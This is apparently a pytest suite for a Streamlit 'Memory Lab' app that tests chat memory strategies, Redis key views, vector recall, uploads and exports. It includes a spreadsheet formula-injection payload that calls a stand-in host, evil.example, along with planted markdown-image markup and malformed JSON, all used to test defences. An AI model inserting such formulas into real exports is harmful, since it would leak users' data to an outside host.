"""Every page through Streamlit's AppTest, against real backends, with interactions."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from memory.backends.redis_server import free_port

APP = str(Path(__file__).resolve().parent.parent / "app.py")

PAGES = {
    "app.py": "Memory Lab",
    "pages/chat.py": "Chat playground",
    "pages/compare.py": "Compare strategies",
    "pages/redis_keys.py": "Redis keys",
    "pages/summaries.py": "Summaries",
    "pages/session_replay.py": "Session replay",
    "pages/vector_memory.py": "Vector memory",
    "pages/recall_lab.py": "Recall Lab",
    "pages/audit.py": "Audit trail",
}


@pytest.fixture()
def app_env(settings, monkeypatch):
    monkeypatch.setenv("MEMLAB_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("REDIS_URL", settings.redis_url)
    return settings


def open_page(page: str, user: str = "alice", session: str = "s1") -> AppTest:
    at = AppTest.from_file(APP, default_timeout=180)
    at.session_state["user_id"] = user
    at.session_state["session_id"] = session
    at.run()
    if page != "app.py":
        at.switch_page(page).run()
    return at


def open_traces(at: AppTest) -> None:
    """Open every trace expander, as a click would (they are keyed widgets that draw only when open)."""
    for expander in at.expander:
        if expander.key and expander.key.startswith("trace-"):
            at.session_state[expander.key] = True
    at.run()


def assert_clean(at: AppTest, title: str) -> None:
    assert not at.exception, [e.value for e in at.exception]
    assert [t.value for t in at.title] == [title]
    assert not at.get("help"), "an expression statement was rendered by Streamlit's magic (st.help of an element)"


@pytest.mark.parametrize("page", list(PAGES))
def test_every_page_loads_empty_and_says_what_to_do(app_env, page):
    at = open_page(page, user="newcomer")
    assert_clean(at, PAGES[page])
    assert at.info, "a first-time user should see what to do next"
    assert not at.error


@pytest.mark.parametrize("page", list(PAGES))
def test_a_down_backend_gives_a_banner_and_the_page_still_renders(app_env, monkeypatch, page):
    monkeypatch.setenv("REDIS_URL", f"redis://127.0.0.1:{free_port()}/0")
    at = open_page(page)
    assert_clean(at, PAGES[page])
    assert any("Redis is unreachable" in e.value for e in at.error)


def test_chat_shows_the_reply_and_what_the_model_saw(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("facts").run()
    at.chat_input[0].set_value("My name is Alice. I use Python.").run()
    at.sidebar.button[0].click().run()  # New session
    assert at.session_state["session_id"] != "s1"
    at.chat_input[0].set_value("What is my name?").run()
    assert not at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    reply = at.chat_message[1].markdown[0].value
    assert "Alice" in reply
    labels = [e.label for e in at.expander]
    assert any(label.startswith("What the model saw · facts") for label in labels)
    assert not at.code, "a closed trace is not drawn (lazy)"
    open_traces(at)
    codes = " ".join(c.value for c in at.code)
    assert "Your name is Alice." in codes
    frames = [df.value for df in at.dataframe]
    retrieved = next(f for f in frames if "relevance" in f.columns)
    assert (retrieved["relevance"] > 0).all()
    used = retrieved.loc[retrieved["used"] == "✓", "text"].tolist()
    assert used == ["Your name is Alice."], "the fact the reply used is marked, and only it"


def test_chat_renders_user_markup_as_text(app_env):
    at = open_page("pages/chat.py")
    at.chat_input[0].set_value("<b>bold</b> **not bold**").run()
    shown = at.chat_message[0].markdown[0].value
    assert "\\<b\\>" in shown and "\\*\\*" in shown


def test_redis_keys_filter_and_decode(app_env):
    at = open_page("pages/chat.py")
    at.chat_input[0].set_value("Hello there").run()
    at.switch_page("pages/redis_keys.py").run()
    at.text_input(key="key_pattern").set_value("memlab:s:*:log").run()
    assert_clean(at, "Redis keys")
    table = at.dataframe[0].value
    assert list(table["key"]) == ["memlab:s:{alice:s1}:log"]
    messages = at.dataframe[1].value
    assert list(messages["content"]) == ["Hello there", messages["content"].iloc[1]]
    assert list(messages["role"]) == ["user", "assistant"]
    assert table["TTL"].iloc[0] in ("7 d", "6 d 23 h") and table["expires"].iloc[0][:2] == "20"  # a full date


def test_redis_keys_open_on_the_users_keys_and_show_hashes_as_tables(app_env):
    at = open_page("pages/chat.py")
    at.chat_input[0].set_value("Hello there").run()
    at.session_state["user_id"] = "bob"
    at.chat_input[0].set_value("Hi, I am Bob").run()
    at.switch_page("pages/redis_keys.py").run()
    assert_clean(at, "Redis keys")
    keys = list(at.dataframe[0].value["key"])
    assert keys and all("{bob" in k for k in keys), keys  # the current user's keys by default
    at.toggle(key="key_all").set_value(True).run()
    assert any("{alice" in k for k in at.dataframe[0].value["key"])
    at.toggle(key="key_all").set_value(False).run()
    traces = next(i for i, k in enumerate(at.dataframe[0].value["key"]) if k.endswith(":traces"))
    at.selectbox(key="key_chosen_index").set_value(traces).run()
    shown = at.dataframe[1].value
    assert list(shown.columns) == ["field", "value", "format"] and shown["format"].iloc[0] == "JSON"


def test_summaries_show_folds(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("summary").run()
    at.number_input(key="cfg_thr").set_value(4).run()
    at.number_input(key="cfg_keep").set_value(2).run()
    for text in ["My name is Alice.", "I live in Berlin.", "It is raining."]:
        at.chat_input[0].set_value(text).run()
    at.switch_page("pages/summaries.py").run()
    assert_clean(at, "Summaries")
    assert at.slider(key="sum_threshold_alice_s1").value == 4, "the gauge compares against the session's threshold"
    assert "Alice" in at.code[0].value
    folds = at.dataframe[-1].value
    assert len(folds) >= 1 and folds["messages folded"].iloc[0] >= 3
    assert list(folds["fold"])[0] == "fold 1"  # numbered on the chart's axis, not timestamps
    assert at.expander[-1].label.startswith(f"Fold {len(folds)} ·")
    folded = at.table[0].value
    assert "My name is Alice." in list(folded["content"]) and list(folded["role"])[0] == "user"


def test_vector_memory_query_shows_scores(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("hybrid").run()
    at.chat_input[0].set_value("My name is Alice. I live in Berlin.").run()
    at.switch_page("pages/vector_memory.py").run()
    at.text_input(key="vec_query").set_value("which city do I live in?").run()
    assert_clean(at, "Vector memory")
    hits = next(df.value for df in at.dataframe if "cosine similarity" in df.value.columns)
    assert "You live in Berlin." in list(hits["text"])
    assert list(hits["cosine similarity"]) == sorted(hits["cosine similarity"], reverse=True)
    assert ((hits["cosine similarity"] + hits["cosine distance"] - 1).abs() < 1e-3).all()
    chart = json.loads(at.get("plotly_chart")[-1].proto.spec)
    names = [t.get("name") for t in chart["data"]]
    assert "query" in names and any(str(n).startswith("top ") for n in names), names


def test_compare_runs_and_reports_context_and_answers(app_env):
    at = open_page("pages/compare.py")
    at.multiselect(key="cmp_strategies").set_value(["buffer", "facts"]).run()
    at.button(key="cmp_run").click().run()
    assert_clean(at, "Compare strategies")
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["facts: answered"] == "100%" and metrics["buffer: answered"] == "0%"
    assert not any(m.delta for m in at.metric), "no arrow: reaching the context is not a change"
    reached = [c.value for c in at.caption if c.value.startswith("reached the context")]
    assert reached == ["reached the context: 0%", "reached the context: 100%"]
    result = at.session_state["cmp_result"]
    assert {r["strategy"] for r in result["rows"]} == {"buffer", "facts"}
    json.dumps(result)  # exportable


def test_recall_lab_runs_and_drills_into_a_question(app_env):
    at = open_page("pages/recall_lab.py")
    at.button(key="rl_run").click().run()
    assert_clean(at, "Recall Lab")
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Questions"] == "11" and metrics["R@5"] == "100.0%"
    at.radio(key="rl_show").set_value("all").run()
    picker(at).set_value(0).run()
    assert not at.exception
    assert at.code[0].value == "What kind of dog did Nadia adopt?"
    evidence = next(df.value for df in at.dataframe if "evidence" in df.value.columns)
    assert list(evidence["evidence"]) == ["D1:1"] and "greyhound" in evidence["text"].iloc[0]
    assert not any("Related words" in m.value for m in at.markdown)
    picker(at).set_value(1).run()  # "Which race is Tom training for?": the sample's turns say "marathon"
    related = [m.value for m in at.markdown if "Related words" in m.value]
    assert len(related) == 1 and "marathon (0." in related[0], related
    picker(at).set_value(3).run()
    at.selectbox(key="rl_unit").set_value("session").run()
    at.button(key="rl_run").click().run()  # a second run: the question shown is the one the box names
    box = picker(at)
    assert box.key.startswith("rl_pick_2-") and at.code[0].value in box.options[box.index]


def picker(at: AppTest):  # type: ignore[no-untyped-def]
    """The Recall Lab's question box (keyed per run and filter)."""
    return next(s for s in at.selectbox if s.key and s.key.startswith("rl_pick_"))


IMAGE = "![x](http://127.0.0.1:9/pixel.png)"
LINK = "https://example.com/docs/a_b-c.png"


def _tokens(text: str):
    from markdown_it import MarkdownIt

    def walk(tokens):
        for token in tokens:
            yield token
            if token.children:
                yield from walk(token.children)

    return list(walk(MarkdownIt("commonmark").parse(text)))


def shown_markdown(at: AppTest) -> list[str]:
    """Every string the page hands to Streamlit's markdown renderer."""
    out = [
        e.value for kind in ("markdown", "caption", "warning", "error", "info", "success") for e in getattr(at, kind)
    ]
    out += [e.label for e in at.expander]
    return [str(v) for v in out]


def plant_markup(lab, raw) -> None:
    from memory.messages import Message, Role

    lab.chat("alice", "s1", f"look {IMAGE} and {LINK}.", strategy="summary")
    k, u = lab.keys.session("alice", "s1"), lab.keys.user("alice")
    bad = json.dumps({"v": IMAGE, "id": "x", "role": "user", "content": IMAGE, "created_at": 1})
    for key in (k.log, k.buffer, k.folds, u.fact_log):
        raw.rpush(key, bad)
    raw.hset(k.traces, "x", json.dumps({"strategy": IMAGE, "user_id": "a", "session_id": "b", "warnings": [IMAGE]}))
    lab.sessions.append("alice", "s1", Message(Role.USER, IMAGE, id="m-image"))


@pytest.mark.parametrize("page", ["pages/chat.py", "pages/summaries.py", "pages/redis_keys.py"])
def test_stored_markup_is_never_an_image_and_links_stay_readable(app_env, lab, raw_redis, page):
    plant_markup(lab, raw_redis)
    at = open_page(page)
    if page == "pages/redis_keys.py":
        at.text_input(key="key_pattern").set_value("memlab:s:*:log").run()
    assert not at.exception, [e.value for e in at.exception]
    texts = shown_markdown(at)
    assert texts
    tokens = [t for text in texts for t in _tokens(text)]
    assert not [t for t in tokens if t.type == "image"], "stored markup became an image"
    hrefs = [t.attrs.get("href") for t in tokens if t.type == "link_open"]
    assert all("\\" not in str(h) for h in hrefs), hrefs
    if page == "pages/chat.py":
        assert LINK in hrefs, "a URL the user typed stays a readable link"


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    value=st.one_of(
        st.binary(min_size=1, max_size=200),
        st.just(b"[" * 50_000 + b"]" * 50_000),
        st.just(b'{"v":1,"id":"a","role":"user","content":"x","created_at":1e400}'),
        st.recursive(
            st.none() | st.floats() | st.text(max_size=10), lambda c: st.lists(c, max_size=3), max_leaves=8
        ).map(lambda v: json.dumps(v).encode()),
    )
)
def test_property_pages_render_whatever_the_keys_hold(app_env, lab, raw_redis, value):
    raw_redis.flushdb()
    lab.sessions.append("alice", "s1", __import__("memory.messages").messages.Message("user", "hello"))
    k, u = lab.keys.session("alice", "s1"), lab.keys.user("alice")
    for key in (k.log, k.buffer, k.folds, u.fact_log):
        raw_redis.rpush(key, value)
    raw_redis.hset(k.traces, value[:100] or b"f", value)
    raw_redis.set(k.summary, value)
    raw_redis.zadd(u.sessions, {value[:100] or b"m": 1.0})
    for page in (
        "pages/chat.py",
        "pages/summaries.py",
        "pages/redis_keys.py",
        "pages/vector_memory.py",
    ):
        at = open_page(page)
        assert not at.exception, (page, [e.value for e in at.exception])


def test_a_hung_redis_shows_a_banner_quickly(app_env, monkeypatch, tmp_path):
    import os
    import signal
    import time

    from memory.backends.redis_server import EmbeddedRedis

    from .conftest import kill_pid

    server = EmbeddedRedis(tmp_path / "hung")
    state = server.ensure_running()
    os.kill(state.pid, signal.SIGSTOP)
    try:
        monkeypatch.setenv("REDIS_URL", state.url)
        started = time.monotonic()
        at = open_page("pages/chat.py")
        elapsed = time.monotonic() - started
        assert_clean(at, PAGES["pages/chat.py"])
        assert any("Redis is not answering" in e.value and "did not answer" in e.value for e in at.error)
        assert elapsed < 20, elapsed
    finally:
        os.kill(state.pid, signal.SIGCONT)
        kill_pid(state.pid)


def test_the_strategy_survives_a_page_switch(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("facts").run()
    at.number_input(key="cfg_k").set_value(7).run()
    at.switch_page("pages/summaries.py").run()
    at.switch_page("pages/chat.py").run()
    assert at.selectbox(key="strategy").value == "facts"
    assert at.number_input(key="cfg_k").value == 7


def test_a_sessions_strategy_and_settings_are_stored_with_it(app_env):
    first = open_page("pages/chat.py", user="alice", session="s7")
    first.selectbox(key="strategy").set_value("summary").run()
    first.number_input(key="cfg_thr").set_value(4).run()
    first.chat_input[0].set_value("My name is Alice.").run()
    assert not first.exception
    again = open_page("pages/chat.py", user="alice", session="s7")  # another browser, another day
    assert again.selectbox(key="strategy").value == "summary"
    assert again.number_input(key="cfg_thr").value == 4
    fresh = open_page("pages/chat.py", user="alice", session="fresh")
    assert fresh.selectbox(key="strategy").value == "summary", "a new session continues with the user's latest strategy"
    assert fresh.number_input(key="cfg_thr").value == 4
    stranger = open_page("pages/chat.py", user="nobody-yet", session="s1")
    assert stranger.selectbox(key="strategy").value == "buffer", "nothing stored anywhere: the defaults"


def test_switching_user_opens_their_newest_session(app_env, lab):
    from memory.messages import Message, Role

    lab.sessions.append("bob", "b-old", Message(Role.USER, "old"))
    lab.sessions.append("bob", "b-new", Message(Role.USER, "new"))
    at = open_page("pages/chat.py", user="alice", session="a1")
    at.sidebar.text_input(key="_user_box").set_value("bob").run()
    assert at.session_state["session_id"] == "b-new"
    assert [m.markdown[0].value for m in at.chat_message] == ["new"]
    at.sidebar.text_input(key="_user_box").set_value("nobody").run()
    assert at.session_state["session_id"] == "s1"


def test_a_deep_link_reproduces_a_view(app_env, lab):
    lab.chat("carol", "c2", "My name is Carol.", strategy="hybrid")
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params.update({"user": "carol", "session": "c2", "strategy": "facts"})
    at.run()
    at.switch_page("pages/chat.py").run()
    assert not at.exception
    assert (at.session_state["user_id"], at.session_state["session_id"]) == ("carol", "c2")
    assert at.selectbox(key="strategy").value == "facts", "the link's strategy wins over the stored one"
    assert at.chat_message[0].markdown[0].value.replace("\\", "") == "My name is Carol."
    assert at.query_params["user"] in ("carol", ["carol"]) and at.query_params["session"] in ("c2", ["c2"])


def test_vector_memory_edits_and_undoes_a_fact_and_exports(app_env, lab):
    lab.chat("alice", "s1", "I live in Berlin.", strategy="facts")
    at = open_page("pages/vector_memory.py")
    [fact] = lab.facts.all("alice")
    at.text_area(key=f"edit_fact_text:{fact.id}").set_value("The user lives in Berlin-Mitte.")
    at.button[[b.label for b in at.button].index("Save the edit")].click().run()
    assert not at.exception
    assert [r.text for r in lab.facts.all("alice")] == ["The user lives in Berlin-Mitte."]
    assert any("Edited" in s.value for s in at.success)
    at.button(key="undo_fact").click().run()
    assert [r.text for r in lab.facts.all("alice")] == ["You live in Berlin."]
    assert any(d.label.startswith("Download this user's memory") for d in at.get("download_button"))


@pytest.mark.parametrize("name", ["anthropic", "openai"])
def test_chat_streams_with_a_hosted_model_named_in_the_sidebar(app_env, monkeypatch, name):
    from .llm_servers import PROVIDERS

    provider = PROVIDERS[name]

    def answer(ask):
        if "Extract durable facts" in ask.system:
            return 200, '{"facts": []}', "small"
        return 200, "Streaming works, Alice.", "model-stream"

    with provider.serve(answer) as server:
        if name == "anthropic":
            monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test")
            monkeypatch.setenv("ANTHROPIC_BASE_URL", server.url)
        else:
            monkeypatch.setenv("MEMLAB_LLM", "openai")
            monkeypatch.setenv("OPENAI_BASE_URL", server.url)
            monkeypatch.setenv("MEMLAB_OPENAI_MODEL", "llama-local")
        at = open_page("pages/chat.py")
        assert any(f"**LLM** · {name}" in md.value for md in at.sidebar.markdown), "the sidebar names the provider"
        at.chat_input[0].set_value("Hello there").run()
        assert not at.exception, [e.value for e in at.exception]
        assert server.streamed, "the page asked for a stream"
        assert [m.name for m in at.chat_message] == ["user", "assistant"]
        assert at.chat_message[1].markdown[0].value.replace("\\", "") == "Streaming works, Alice."
        at.run()  # the stored turn, with its trace under the reply
        open_traces(at)
        assert any(m.label == "LLM" and m.value == name for m in at.metric), "the trace names the provider"


def test_the_chat_page_says_memory_is_updating_until_the_upkeep_is_done(app_env, monkeypatch):
    monkeypatch.setenv("MEMLAB_UPKEEP_DELAY", "1.5")
    at = open_page("pages/chat.py", session="upkeep")
    at.selectbox(key="strategy").set_value("facts").run()
    at.chat_input[0].set_value("My name is Alice.").run()
    assert_clean(at, "Chat playground")
    assert any("Memory updating" in c.value for c in at.caption)
    assert "upkeep_watch" in at.session_state
    deadline = time.monotonic() + 30
    while "upkeep_watch" in at.session_state and time.monotonic() < deadline:
        time.sleep(0.5)
        at.run()
    assert "upkeep_watch" not in at.session_state, "the watch ends once the worker has written the outcome"
    open_traces(at)
    assert any("Done by worker" in c.value for c in at.caption)
    assert not any("Memory updating" in c.value for c in at.caption)


def test_redis_keys_show_a_langchain_history_as_a_conversation_and_memory_by_user(app_env, redis_server):
    import warnings

    import redis

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        from langchain_community.chat_message_histories import RedisChatMessageHistory
    history = RedisChatMessageHistory("support-42", url=redis_server.url, ttl=7 * 86400)
    history.add_user_message("My order is late.")
    history.add_ai_message("Let me check order 1234.")
    raw = redis.Redis.from_url(redis_server.url)
    raw.lpush(b"message_store:\xff\xfe", json.dumps({"type": "human", "data": {"content": "odd key"}}))
    raw.hset(
        b"vl:\xff:1.5", mapping={"entry_id": b"\xff:1.5", "role": "user", "content": b"\xfe", "session_tag": b"\xff"}
    )
    raw.close()
    at = open_page("pages/chat.py")
    at.chat_input[0].set_value("Hello there").run()
    at.switch_page("pages/redis_keys.py").run()
    assert_clean(at, "Redis keys")
    assert len(at.dataframe(key="foreign_table").value) == 3, "odd key names are listed, not a crash"
    said = [m.markdown[-1].value for m in at.chat_message]
    assert said == ["My order is late\\.", "Let me check order 1234\\."]  # escaped: stored text is never markup
    assert any(
        "LangChain RedisChatMessageHistory" in md.value and ("6 d 23 h" in md.value or "7 d" in md.value)
        for md in at.markdown
    )
    metrics = {m.label: m.value for m in at.metric}
    assert int(metrics["Keys"].replace(",", "")) >= 5 and metrics["Memory"].endswith(("KiB", "B"))


def test_redis_keys_bulk_ttl_needs_a_tick_and_then_changes_every_matching_key(app_env, lab):
    lab.chat("alice", "s1", "Hello", strategy="buffer", wait_upkeep=True)
    lab.chat("alice", "s2", "Hello", strategy="buffer", wait_upkeep=True)
    at = open_page("pages/redis_keys.py")
    at.text_input(key="key_pattern").set_value("memlab:s:{alice:*}:*").run()
    [b for b in at.button if b.label == "Apply"][0].click().run()
    assert any("Tick the box" in w.value for w in at.warning)
    keys = [k for k in lab.redis.scan_iter("memlab:s:{alice:*}:*")]
    assert keys and all(lab.redis.ttl(k) > 0 for k in keys)
    at.radio(key="bulk_action").set_value("Set TTL")  # a form sends its widgets with the submit
    at.number_input(key="bulk_ttl").set_value(0)
    at.checkbox(key="bulk_confirm").check()
    [b for b in at.button if b.label == "Apply"][0].click().run()
    assert any(f"Set the TTL of {len(keys)} keys" in s.value for s in at.success), (
        [s.value for s in at.success],
        [w.value for w in at.warning],
        [e.value for e in at.error],
    )
    assert all(lab.redis.ttl(k) == -1 for k in keys)


def test_the_audit_page_lists_the_users_writes_and_exports_them(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("facts").run()
    at.chat_input[0].set_value("My name is Alice.").run()
    at.session_state["user_id"] = "bob"
    at.chat_input[0].set_value("My name is Bob.").run()
    at.session_state["user_id"] = "alice"
    at.switch_page("pages/audit.py").run()
    assert_clean(at, "Audit trail")
    shown = at.dataframe(key="audit_table").value
    assert set(shown["user"]) == {"alice"} and "My name is Alice." in list(shown["content"])
    assert {"message_stored"} <= set(shown["action"])
    at.toggle(key="audit_all").set_value(True).run()
    assert {"alice", "bob"} <= set(at.dataframe(key="audit_table").value["user"])
    at.multiselect(key="audit_actions").set_value(["fact_add"]).run()
    assert set(at.dataframe(key="audit_table").value["action"]) == {"fact_add"}


def test_the_vector_memory_page_and_the_status_work_on_qdrant(app_env, monkeypatch):
    monkeypatch.setenv("MEMLAB_VECTOR_STORE", "qdrant")
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("hybrid").run()
    at.chat_input[0].set_value("My name is Alice. I live in Berlin.").run()
    at.switch_page("pages/vector_memory.py").run()
    at.text_input(key="vec_query").set_value("which city do I live in?").run()
    assert_clean(at, "Vector memory")
    assert any("in Qdrant (embedded)" in c.value for c in at.caption)
    hits = next(df.value for df in at.dataframe if "cosine similarity" in df.value.columns)
    assert "Berlin" in hits["text"].iloc[0] and 0 < hits["cosine similarity"].iloc[0] <= 1
    at.switch_page("app.py").run()
    backends = at.dataframe[0].value
    assert "Qdrant" in list(backends["backend"]) and set(backends["status"]) == {"up"}


def test_the_vector_page_says_why_a_memory_was_not_retrieved(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("facts").run()
    for text in ["My name is Alice.", "I live in Oslo.", "My sister is called Maja."]:
        at.chat_input[0].set_value(text).run()
    at.switch_page("pages/vector_memory.py").run()
    at.text_input(key="vec_query").set_value("Where do I live?").run()
    at.number_input(key="vec_k").set_value(1).run()
    at.text_input(key="why_vector").set_value("Your sister is called Maja.").run()
    assert_clean(at, "Vector memory")
    said = [w.value for w in at.warning]
    assert any(w.startswith("**Ranked below the cut-off.**") for w in said), said
    table = next(df.value for df in at.dataframe if "fused score" in df.value.columns)
    assert table["rank"].iloc[0] > 1 and table["fused score"].iloc[0] < table["fused score"].iloc[1]
    at.text_input(key="why_vector").set_value("The user's dog is called Rex.").run()
    assert any("Never stored" in w.value for w in at.warning)


def test_a_turns_trace_says_why_a_memory_was_not_retrieved(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("facts").run()
    at.chat_input[0].set_value("I like jazz.").run()
    at.session_state["user_id"] = "bob"
    at.chat_input[0].set_value("What music do I like?").run()
    open_traces(at)
    key = next(t.key for t in at.text_input if t.key and t.key.startswith("why_"))
    at.text_input(key=key).set_value("You like jazz.").run()
    assert any("Stored for another user" in w.value and "alice" in w.value for w in at.warning), [
        w.value for w in at.warning
    ]


def test_recall_lab_answers_questions_and_says_why_evidence_was_missed(app_env):
    at = open_page("pages/recall_lab.py")
    at.multiselect(key="rl_k").set_value([1]).run()
    at.toggle(key="rl_answers").set_value(True).run()
    at.number_input(key="rl_answer_k").set_value(3).run()
    at.button(key="rl_run").click().run()
    assert_clean(at, "Recall Lab")
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Answer token F1 (top 3 turns)"].endswith("%") and metrics["Judge: correct"] == "—"
    at.radio(key="rl_show").set_value("all").run()
    whys = []
    for i in range(len(picker(at).options)):
        picker(at).set_value(i).run()
        evidence = next(df.value for df in at.dataframe if "why" in df.value.columns)
        whys += list(evidence["why"])
        for _, row in evidence.iterrows():  # each ranked evidence turn's score, part by part
            if row["rank"] is not None and row["rank"] == row["rank"]:
                parts = row["match (fused + neighbour, 0-1)"] + row["+ session"] + row["+ speaker"] + row["+ date"]
                assert abs(parts - row["score"]) < 1e-3 and -1 <= row["cosine"] <= 1
        assert any("token F1" in md.value for md in at.markdown)
    assert any(w.startswith("retrieved (rank 1") for w in whys)
    assert any(w.startswith("ranked below the cut-off") for w in whys), whys
    assert all(" at rank 1)" in w for w in whys if w.startswith("ranked below")), whys  # the score it had to beat


def test_a_turns_trace_shows_the_related_words_of_a_recalled_turn(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("episodic").run()
    at.chat_input[0].set_value("I started taekwondo lessons last week.").run()
    at.session_state["session_id"] = "s2"
    at.chat_input[0].set_value("Which martial arts have I practised?").run()
    open_traces(at)
    for toggle in at.toggle:
        if toggle.key and toggle.key.startswith("components-"):
            toggle.set_value(True)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    tables = [df.value for df in at.dataframe if "related words" in df.value.columns]
    assert tables, "the score components name the related words"
    rows = tables[-1]
    assert list(rows.loc[rows["kind"] == "turn", "related words"])[0] == "taekwondo"


# -- uploads and exports (issue 21) ------------------------------------------------------------------------------

BAD_UPLOADS = [
    pytest.param(b"[" * 100_000 + b"]" * 100_000, "nested more than 32 levels deep", id="deep"),
    pytest.param(b'{"name": "caf\xe9"}', "not UTF-8 text (byte 0xe9 at offset 13)", id="latin-1"),
    pytest.param(b"[" + b"7" * 5000 + b"]", "a number with 5,000 digits", id="5000-digits"),
]


def _upload(at: AppTest, key: str, raw: bytes) -> None:
    at.file_uploader(key=key).set_value(("upload.json", raw, "application/json")).run()


def _errors(at: AppTest) -> str:
    """The page's error boxes as the reader sees them (markdown escapes removed)."""
    assert not at.exception, [e.value for e in at.exception]
    return re.sub(r"\\(.)", r"\1", " | ".join(e.value for e in at.error))


@pytest.mark.parametrize(
    ("raw", "words"),
    [*BAD_UPLOADS, pytest.param(b'{"turns": ["My name is Ada."]}', "turns[0] is not a JSON object", id="turn-text")],
)
def test_a_bad_scenario_upload_is_a_clear_error_on_compare(app_env, raw, words):
    at = open_page("pages/compare.py")
    at.radio(key="cmp_source").set_value("Upload JSON").run()
    _upload(at, "cmp_upload", raw)
    assert words in _errors(at)
    assert at.button(key="cmp_run").disabled


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        *BAD_UPLOADS,
        pytest.param(b'[{"conversation": {"session_1": ["Hi"]}}]', "session_1[0] is not a JSON object", id="turn"),
        pytest.param(b'[{"conversation": {}, "qa": ["Who?"]}]', "qa[0] is not a JSON object", id="question"),
        pytest.param(
            b'[{"conversation": {}, "qa": [{"question": "Who?", "category": "x"}]}]', "category is not a number", id="x"
        ),
        pytest.param(
            b'[{"conversation": {}, "qa": [{"question": "Who?", "category": Infinity}]}]', "Infinity", id="inf"
        ),
    ],
)
def test_a_bad_data_set_upload_is_a_clear_error_on_recall_lab(app_env, raw, words):
    at = open_page("pages/recall_lab.py")
    at.selectbox(key="rl_source").set_value("Upload a LoCoMo or LongMemEval JSON file").run()
    _upload(at, "rl_upload", raw)
    assert words in _errors(at)
    assert at.button(key="rl_run").disabled


class _KeptMedia(MemoryMediaFileStorage):
    """Streamlit's own in-memory media store, kept after the run so a test can read what a download serves."""

    kept: list[MemoryMediaFileStorage] = []

    def __init__(self, *args: object) -> None:
        super().__init__(*args)
        _KeptMedia.kept.append(self)


def _download(at: AppTest, label: str) -> str:
    button = next(d for d in at.get("download_button") if d.label == label)
    name = button.proto.url.rsplit("/", 1)[1]
    for storage in reversed(_KeptMedia.kept):
        try:
            return storage.get_file(name).content.decode()
        except Exception:  # noqa: BLE001 - another run's store
            continue
    raise AssertionError(f"no file behind {label!r}")


FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "open")'


def test_the_audit_and_compare_csv_exports_hold_no_live_formulas(app_env, monkeypatch):
    monkeypatch.setattr("streamlit.testing.v1.app_test.MemoryMediaFileStorage", _KeptMedia)
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("buffer").run()
    at.chat_input[0].set_value(FORMULA).run()
    at.switch_page("pages/audit.py").run()
    rows = list(csv.DictReader(io.StringIO(_download(at, "Download as CSV"), newline="")))
    assert "'" + FORMULA in [r["content"] for r in rows], "the formula is text, with its leading quote"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())

    at.switch_page("pages/compare.py").run()
    at.radio(key="cmp_source").set_value("Upload JSON").run()
    scenario = {"name": "@SUM(1+1)", "turns": [{"user": "-2+3"}, {"user": FORMULA, "expect": ["+1"]}]}
    _upload(at, "cmp_upload", json.dumps(scenario).encode())
    at.multiselect(key="cmp_strategies").set_value(["buffer"]).run()
    at.button(key="cmp_run").click().run()
    assert not at.exception, [e.value for e in at.exception]
    rows = list(csv.DictReader(io.StringIO(_download(at, "Download results as CSV"), newline="")))
    assert [r["user"] for r in rows] == ["'-2+3", "'" + FORMULA] and rows[0]["scenario"] == "'@SUM(1+1)"
    assert json.loads(rows[1]["expected"]) == ["+1"], "lists as JSON, which starts with '['"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_redis_keys_bulk_delete_leaves_other_apps_keys_under_our_prefix(app_env, lab, raw_redis):
    lab.chat("alice", "s1", "Hello", strategy="buffer")
    raw_redis.set("memlab:other-app:cache:1", b"keep me")
    at = open_page("pages/redis_keys.py")
    at.text_input(key="key_pattern").set_value("memlab:*").run()
    assert any("1** of them are not keys Memory Lab builds" in md.value for md in at.markdown)
    at.radio(key="bulk_action").set_value("Delete")
    at.checkbox(key="bulk_confirm").check()
    [b for b in at.button if b.label == "Apply"][0].click().run()
    assert any("left 1 other keys alone" in s.value for s in at.success), [s.value for s in at.success]
    assert raw_redis.get("memlab:other-app:cache:1") == b"keep me"
    assert list(lab.redis.scan_iter("memlab:s:*")) == []


def test_redis_keys_show_the_upkeep_dead_letters_with_their_reasons(app_env, lab):
    from memory.worker import Worker

    lab.redis.xadd(lab.keys.jobs, {"job": "not a job"})
    lab.redis.xadd(lab.keys.jobs, {"job": json.dumps({"user_id": "alice\n", "messages": []})})
    worker = Worker(lab, name="w", block_ms=50)
    while worker.run_once():
        pass
    at = open_page("pages/redis_keys.py")
    assert_clean(at, "Redis keys")
    shown = at.dataframe(key="dead_letters_table").value
    assert list(shown["reason"]) == [
        "user_id 'alice\\n' is not a valid user id",
        "not a job: not valid JSON: Expecting value: line 1 column 1 (char 0)",
    ]
    assert list(shown["entry as stored (start)"])[1] == "not a job"
